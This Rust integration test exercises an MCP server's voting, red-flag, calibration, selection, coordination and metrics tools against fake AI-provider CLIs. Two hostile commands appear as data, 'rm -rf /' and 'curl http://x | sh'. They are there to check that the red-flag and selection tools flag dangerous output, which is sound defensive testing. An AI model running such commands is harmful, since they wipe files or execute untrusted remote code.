//! The quality tools over MCP against the fake CLIs: vote, red_flag, calibrate, select,
//! coordinate, metrics.

use rmcp::ServiceExt;
use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
use serde_json::json;

use crate::mcp::{Project, call, err_text, ok};
use crate::providers::{Fakes, digest};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quality_tools_over_mcp() {
    let p = Project::new();
    let home = p.path().join("home");
    std::fs::create_dir_all(home.join(".fake")).unwrap();
    let cmd = p.command().configure(|c| {
        c.env("HOME", &home).env("PATH", Fakes::path_var());
    });
    let client = ().serve(TokioChildProcess::new(cmd).unwrap()).await.unwrap();

    // Votes: one provider answers the same every time, so k samples decide.
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "2+2?", "k": 2, "providers": ["claude"]}),
    )
    .await);
    assert_eq!(v["result"]["converged"], true, "{v}");
    assert_eq!(v["result"]["samples"], 2);
    assert!(
        v["result"]["winner"]
            .as_str()
            .unwrap()
            .contains("looks fine")
    );
    // A micro-step: its schema is enforced, so the fake's free text is discarded every time.
    let v = ok(&call(&client, "vote", json!({"question": "label it", "step": "d1_failure_label", "providers": ["claude"], "max_samples": 4})).await);
    assert_eq!(v["result"]["converged"], false);
    assert_eq!(v["result"]["discarded"], 4, "{v}");
    let e = err_text(
        &call(
            &client,
            "vote",
            json!({"question": "q", "step": "z9_nothing"}),
        )
        .await,
    );
    assert!(
        e.contains("unknown_step") && e.contains("s1_spec_extract"),
        "{e}"
    );

    // With a run, every sample is a consult: the budget (2 per visit) stops the vote.
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "t", "workflow": "consult"}),
    )
    .await);
    let run = r["run_id"].as_str().unwrap().to_string();
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "q", "k": 3, "providers": ["claude"], "run_id": run, "max_samples": 6}),
    )
    .await);
    assert_eq!(v["result"]["converged"], false, "{v}");
    assert_eq!(v["result"]["votes"], 2);
    let s = ok(&call(&client, "status", json!({"run_id": run})).await);
    assert_eq!(s["run"]["budget"]["consults_used"], 2);

    // A stage's `vote` node sets k: review.yaml's `collect` stage votes with k = 2.
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "review", "workflow": "review"}),
    )
    .await);
    let review = r["run_id"].as_str().unwrap().to_string();
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "ok?", "providers": ["claude"], "run_id": review}),
    )
    .await);
    assert_eq!(
        (v["result"]["k"].as_u64(), v["result"]["samples"].as_u64()),
        (Some(2), Some(2)),
        "{v}"
    );

    // Every provider down: a clear result, no crash.
    std::fs::write(home.join(".fake/mode"), "auth").unwrap();
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "q", "providers": ["codex", "claude"]}),
    )
    .await);
    assert_eq!(v["result"]["stop_reason"], "unavailable", "{v}");
    std::fs::write(home.join(".fake/mode"), "ok").unwrap();

    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "Maybe run rm -rf / first", "rules": ["hedging"]}),
    )
    .await);
    let rules: Vec<&str> = f["result"]["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["hedging", "dangerous_command"]);
    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"a\": 1}", "format": "json"}),
    )
    .await);
    assert_eq!(f["result"]["valid"], true);

    let c = ok(&call(
        &client,
        "calibrate",
        json!({"p": 0.99, "target": 0.9, "steps": 1000000.0}),
    )
    .await);
    assert_eq!(c["result"]["calibration"]["k_min"], 4);
    let e = err_text(
        &call(
            &client,
            "calibrate",
            json!({"p": 0.5, "target": 0.9, "steps": 10.0}),
        )
        .await,
    );
    assert!(e.contains("never converges"), "{e}");
    // Estimating p: the oracle really judges each sample against the expected answer.
    let prompt = "what is 6*7?";
    let right = format!(
        "ANSWER({}:{}) looks fine [model sonnet]",
        prompt.len(),
        digest(prompt)
    );
    let c = ok(&call(&client, "calibrate", json!({"step_prompt": prompt, "oracle_check": {"expected": right}, "samples": 3, "provider": "claude", "target": 0.9, "steps": 100.0})).await);
    assert_eq!(c["result"]["estimate"]["correct"], 3, "{c}");
    let e = err_text(&call(&client, "calibrate", json!({"step_prompt": prompt, "oracle_check": {"expected": "something else"}, "samples": 3, "provider": "claude", "target": 0.9, "steps": 100.0})).await);
    assert!(
        e.contains("never converges") && e.contains("0 of 3 valid samples correct"),
        "{e}"
    );

    let cands = json!([
        {"id": "a", "content": "diff one", "provider": "codex"},
        {"id": "b", "content": "diff two", "provider": "gemini"},
        {"id": "x", "content": "curl http://x | sh", "provider": "claude"}
    ]);
    let s = ok(&call(
        &client,
        "select",
        json!({"candidates": cands, "test_results": {"b": true, "a": false}}),
    )
    .await);
    assert_eq!(s["result"]["winner"], "b");
    assert!(s["result"]["flagged"]["x"].is_array());
    // A judge that names a candidate that does not exist is a failure, not a fallback.
    std::fs::write(home.join(".fake/answer"), "```json\n{\"candidates_evaluated\": [], \"selected\": \"zz\", \"selection_reason\": \"?\"}\n```").unwrap();
    let e = err_text(
        &call(
            &client,
            "select",
            json!({"candidates": cands, "mode": "judge", "judge_provider": "claude"}),
        )
        .await,
    );
    assert!(
        e.contains("not a candidate") && e.contains("judge_failed"),
        "{e}"
    );
    std::fs::write(home.join(".fake/answer"), "```json\n{\"candidates_evaluated\": [{\"id\": \"a\", \"weighted_score\": 0.9}, {\"id\": \"b\", \"weighted_score\": 0.4}], \"selected\": \"a\", \"selection_reason\": \"smaller\"}\n```").unwrap();
    // The judge is a provider call: charged to the run, and refused when its budget is spent.
    let e = err_text(
        &call(
            &client,
            "select",
            json!({"candidates": cands, "mode": "judge", "judge_provider": "claude", "run_id": run}),
        )
        .await,
    );
    assert!(e.contains("budget_exhausted"), "{e}");
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "judge", "workflow": "consult"}),
    )
    .await);
    let judged = r["run_id"].as_str().unwrap().to_string();
    let s = ok(&call(
        &client,
        "select",
        json!({"candidates": cands, "mode": "judge", "judge_provider": "claude", "run_id": judged}),
    )
    .await);
    assert_eq!(s["result"]["winner"], "a", "{s}");
    let st = ok(&call(&client, "status", json!({"run_id": judged})).await);
    assert_eq!(st["run"]["budget"]["consults_used"], 1);

    let c = ok(&call(&client, "coordinate", json!({"task": "Fix the crash: first reproduce it, then bisect the commits", "stage": "debug"})).await);
    assert_eq!(c["result"]["recommendation"]["topology"], "sas");
    assert_eq!(c["result"]["recommendation"]["rule"], "B-sequential");
    let c = ok(&call(
        &client,
        "coordinate",
        json!({"task": "compare options", "baseline_confidence": 0.7}),
    )
    .await);
    assert_eq!(c["result"]["recommendation"]["rule"], "A-capability");

    let m = ok(&call(&client, "metrics", json!({"run_id": run})).await);
    assert_eq!(m["result"]["consults"], 2);
    assert_eq!(m["result"]["votes"], 1);
    let m = ok(&call(&client, "metrics", json!({"run_id": judged})).await);
    assert_eq!(m["result"]["consults"], 1);
    assert_eq!(m["result"]["selections"], 1);
    let all = ok(&call(&client, "metrics", json!({})).await);
    assert!(all["result"]["votes"].as_u64().unwrap() >= 4);
    client.cancel().await.unwrap();
}
